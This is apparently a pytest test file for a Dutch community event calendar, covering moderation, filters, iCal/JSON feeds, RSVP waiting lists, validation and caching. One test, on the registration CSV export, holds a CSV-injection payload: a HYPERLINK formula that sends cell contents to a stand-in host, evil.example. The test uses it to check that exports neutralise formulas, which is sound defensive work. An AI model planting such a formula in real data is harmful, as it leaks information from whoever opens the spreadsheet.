"""The Week calendar: submit, review, filters, feeds, RSVP with a waiting list, bad input."""

from datetime import UTC, date, datetime

from icalendar import Calendar

from community.events import services
from community.events.models import Event, WeekEdition
from community.extensions import db
from tests.helpers import csv_rows, log_in, make_user, page_text, post_form

EVENT = {
    "title": "Lezing: signalen herkennen op school",
    "description": "Een avond voor leerkrachten over signalen en de meldcode.",
    "starts": "2030-11-20T19:30",
    "ends": "2030-11-20T21:30",
    "venue": "Bibliotheek Centrum",
    "address": "Stationsplein 1",
    "gemeente": "arnhem",
    "audience": "professionals",
    "organisation": "GGD Gelderland-Midden",
    "registration_mode": "verbind",
    "capacity": "2",
}


def client_for(app, email, roles=()):
    with app.app_context():
        make_user(name=email.split("@")[0].title(), email=email, roles=roles)
    client = app.test_client()
    log_in(client, email)
    return client


def submit(client, **changes):
    return post_form(client, "/week/events/new", {**EVENT, **changes})


def event_id_from(response):
    return int(response.headers["Location"].rsplit("/", 1)[1])


def review(moderator, event_id, decision, note=""):
    return post_form(
        moderator,
        f"/week/events/{event_id}/review",
        {"decision": decision, "note": note},
        page="/week/review",
    )


def test_submit_approve_and_find_under_the_right_filters_and_feed(app, client):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    response = submit(organiser)
    assert response.status_code == 302
    event_id = event_id_from(response)
    with app.app_context():
        event = db.session.get(Event, event_id)
        assert (event.gemeente, event.province, event.status) == ("Arnhem", "Gelderland", "pending")
    assert "Lezing: signalen herkennen" not in page_text(client.get("/week/?all=1"))
    assert client.get(f"/week/events/{event_id}").status_code == 404

    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    assert "Lezing: signalen herkennen" in page_text(moderator.get("/week/review"))
    review(moderator, event_id, "approve")

    listing = "/week/?start=2030-11-01&end=2030-11-30"
    assert "Lezing: signalen herkennen" in page_text(client.get(listing + "&province=Gelderland"))
    assert "Lezing: signalen herkennen" in page_text(
        client.get(listing + "&audience=professionals")
    )
    assert "Lezing: signalen herkennen" not in page_text(client.get(listing + "&province=Zeeland"))
    assert "Lezing: signalen herkennen" not in page_text(client.get(listing + "&mode=online"))
    assert "Lezing: signalen herkennen" in page_text(client.get(listing + "&q=meldcode"))

    feed = client.get("/week/feed.ics?province=Gelderland&audience=professionals")
    [vevent] = Calendar.from_ical(feed.data).walk("VEVENT")
    start = vevent.decoded("DTSTART")
    assert (start.hour, start.minute) == (19, 30)  # 18:30 UTC in November
    empty = client.get("/week/feed.ics?province=Zeeland")
    assert Calendar.from_ical(empty.data).walk("VEVENT") == []

    page = page_text(client.get(f"/week/events/{event_id}"))
    assert '"@type": "Event"' in page and '"addressRegion": "Gelderland"' in page
    assert client.get("/week/feed.json").get_json()["events"][0]["gemeente"] == "Arnhem"


def test_feed_times_are_right_across_the_daylight_saving_change(app, client):
    with app.app_context():
        organiser = make_user(email="org@verbind.example", roles=("organiser",))
        moderator = make_user(email="mod@verbind.example", roles=("moderator",))
        for day in ("2030-10-26", "2030-10-28"):  # summer time ends on 27 October 2030
            event = services.submit_event(
                organiser,
                {
                    **EVENT,
                    "title": f"Bijeenkomst {day}",
                    "capacity": None,
                    "starts": datetime.fromisoformat(f"{day}T19:30"),
                    "ends": datetime.fromisoformat(f"{day}T21:00"),
                    "online": False,
                },
                now=datetime(2030, 1, 1, tzinfo=UTC),
            )
            services.review_event(moderator, event, "approve")
    events = Calendar.from_ical(client.get("/week/feed.ics").data).walk("VEVENT")
    assert sorted((e.decoded("DTSTART").hour, e.decoded("DTSTART").minute) for e in events) == [
        (19, 30),
        (19, 30),
    ]
    utc_hours = sorted(e.decoded("DTSTART").utctimetuple().tm_hour for e in events)
    assert utc_hours == [17, 18]


def test_rsvp_beyond_capacity_lands_on_the_waiting_list(app):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    event_id = event_id_from(submit(organiser))
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    review(moderator, event_id, "approve")
    url = f"/week/events/{event_id}"
    visitors = [client_for(app, f"v{n}@verbind.example") for n in range(3)]
    for visitor in visitors:
        post_form(visitor, f"{url}/register", page=url)
    assert "Je staat op de wachtlijst." in page_text(visitors[2].get(url))
    post_form(visitors[0], f"{url}/cancel", page=url)
    assert "Je bent aangemeld." in page_text(visitors[2].get(url))
    csv_text = organiser.get(f"{url}/registrations?format=csv").get_data(as_text=True)
    assert "v2@verbind.example" in csv_text and "v0@verbind.example" not in csv_text


def test_registrations_export_turns_profile_fields_into_text_not_formulas(app):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    event_id = event_id_from(submit(organiser))
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    review(moderator, event_id, "approve")
    hostile = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
    with app.app_context():
        make_user(name="-Anna+Bos", email="bezoeker@verbind.example", organisation=hostile)
    visitor = app.test_client()
    log_in(visitor, "bezoeker@verbind.example")
    url = f"/week/events/{event_id}"
    post_form(visitor, f"{url}/register", page=url)
    header, row = csv_rows(organiser.get(f"{url}/registrations?format=csv"))
    assert header[:3] == ["Naam", "E-mailadres", "Organisatie"]
    assert row[:3] == ["'-Anna+Bos", "bezoeker@verbind.example", "'" + hostile]


def test_a_rejected_event_never_appears_publicly(app, client):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    event_id = event_id_from(submit(organiser, title="Een afgewezen bijeenkomst"))
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    review(moderator, event_id, "reject", "Past niet bij de Week.")
    assert "Een afgewezen bijeenkomst" not in page_text(client.get("/week/?all=1"))
    assert client.get(f"/week/events/{event_id}").status_code == 404
    assert b"Een afgewezen bijeenkomst" not in client.get("/week/feed.ics").data
    assert "Een afgewezen" not in client.get("/week/feed.json").get_data(as_text=True)
    assert "Past niet bij de Week." in page_text(organiser.get("/week/mine"))


def test_a_new_place_of_a_published_event_waits_while_the_published_one_stays(app, client):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    event_id = event_id_from(submit(organiser))
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    review(moderator, event_id, "approve")
    post_form(
        organiser,
        f"/week/events/{event_id}/edit",
        {**EVENT, "description": "Alleen de tekst is anders."},
    )
    assert "Alleen de tekst is anders." in page_text(client.get(f"/week/events/{event_id}"))
    post_form(organiser, f"/week/events/{event_id}/edit", {**EVENT, "gemeente": "Utrecht"})
    page = page_text(client.get(f"/week/events/{event_id}"))
    assert "Arnhem" in page and "Utrecht" not in page
    assert "Utrecht" in page_text(moderator.get("/week/review"))


def test_asking_for_changes_needs_a_note(app):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    event_id = event_id_from(submit(organiser))
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    response = post_form(
        moderator,
        f"/week/events/{event_id}/review",
        {"decision": "changes"},
        page="/week/review",
        follow_redirects=True,
    )
    assert "Vertel de organisator wat er moet veranderen." in page_text(response)
    with app.app_context():
        assert db.session.get(Event, event_id).status == "pending"


def test_bad_input_gets_a_message_and_keeps_what_was_typed(app):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    cases = [
        ({"ends": "2030-11-20T18:00"}, "Het einde moet na het begin liggen."),
        ({"gemeente": "Atlantis"}, "We kennen de gemeente “Atlantis” niet."),
        (
            {"starts": "2020-11-20T19:30", "ends": "2020-11-20T21:30"},
            "Een nieuwe bijeenkomst kan niet in het verleden beginnen.",
        ),
        ({"title": "x" * 201}, "Een titel heeft 5 tot 200 tekens."),
    ]
    for changes, message in cases:
        response = submit(organiser, **changes)
        assert response.status_code == 422, message
        html = page_text(response)
        assert message in html
        assert 'value="Bibliotheek Centrum"' in html
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count()).select_from(Event)) == 0


def test_members_cannot_submit_or_review(app):
    member = client_for(app, "lid@verbind.example")
    assert member.get("/week/events/new").status_code == 403
    assert member.get("/week/review").status_code == 403


def test_calendar_opens_on_the_coming_edition_and_keeps_past_ones(app, client):
    with app.app_context():
        db.session.add_all(
            [
                WeekEdition(
                    year=2017,
                    theme="Verbind voor het kind",
                    starts_on=date(2017, 11, 20),
                    ends_on=date(2017, 11, 26),
                ),
                WeekEdition(
                    year=2099,
                    theme="De toekomst",
                    starts_on=date(2099, 11, 16),
                    ends_on=date(2099, 11, 22),
                ),
            ]
        )
        db.session.commit()
    html = page_text(client.get("/week/"))
    assert "De toekomst" in html and "2099" in html
    assert "Verbind voor het kind" in page_text(client.get("/week/?edition=2017"))


def test_month_and_week_views_show_the_days(app, client):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    event_id = event_id_from(submit(organiser))
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    review(moderator, event_id, "approve")
    month = page_text(client.get("/week/?view=month&start=2030-11-01"))
    assert month.count('class="calendar-day') == 30
    assert "Lezing: signalen herkennen" in month
    week = page_text(client.get("/week/?view=week&start=2030-11-20"))
    assert week.count('class="calendar-day') == 7 and "Lezing: signalen herkennen" in week


def test_demo_fills_the_coming_edition(app, runner, client):
    result = runner.invoke(args=["demo", "load"])
    assert result.exit_code == 0, result.output
    with app.app_context():
        approved = db.session.scalars(db.select(Event).where(Event.status == "approved")).all()
        assert len(approved) >= 24
        assert len({e.province for e in approved if e.province}) >= 10
        assert {e.audience for e in approved} == {"everyone", "professionals", "parents", "youth"}
        assert (
            db.session.scalar(
                db.select(db.func.count()).select_from(Event).where(Event.status == "pending")
            )
            == 3
        )
    html = page_text(client.get("/week/"))
    # The events demo's 24, and the Week event that is a Verbind webinar (community/demo.py);
    # the lunch webinar in the Week shows as a webinar of its own.
    assert html.count('class="question-summary"') == 25
    assert "Lunchwebinar: de meldcode in de kinderopvang" in html


def test_a_polling_calendar_app_gets_304_until_the_feed_changes(app, client):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    review(moderator, event_id_from(submit(organiser)), "approve")
    first = client.get("/week/feed.ics")
    assert first.status_code == 200 and first.headers["ETag"]
    assert "max-age=" in first.headers["Cache-Control"]
    again = client.get("/week/feed.ics", headers={"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304 and again.data == b""

    review(moderator, event_id_from(submit(organiser, title="Nog een avond")), "approve")
    changed = client.get("/week/feed.ics", headers={"If-None-Match": first.headers["ETag"]})
    assert changed.status_code == 200
    assert len(Calendar.from_ical(changed.data).walk("VEVENT")) == 2


def test_organisers_see_registration_states_in_dutch_not_their_stored_names(app):
    organiser = client_for(app, "org@verbind.example", roles=("organiser",))
    event_id = event_id_from(submit(organiser))
    review(client_for(app, "mod@verbind.example", roles=("moderator",)), event_id, "approve")
    url = f"/week/events/{event_id}"
    for n in range(3):
        post_form(client_for(app, f"v{n}@verbind.example"), f"{url}/register", page=url)
    page = page_text(organiser.get(f"{url}/registrations"))
    assert page.count("<td>aangemeld</td>") == 2 and page.count("<td>op de wachtlijst</td>") == 1
    assert "<td>waiting</td>" not in page and "<td>registered</td>" not in page
    _, *rows = csv_rows(organiser.get(f"{url}/registrations?format=csv"))
    assert sorted(row[3] for row in rows) == ["aangemeld", "aangemeld", "op de wachtlijst"]
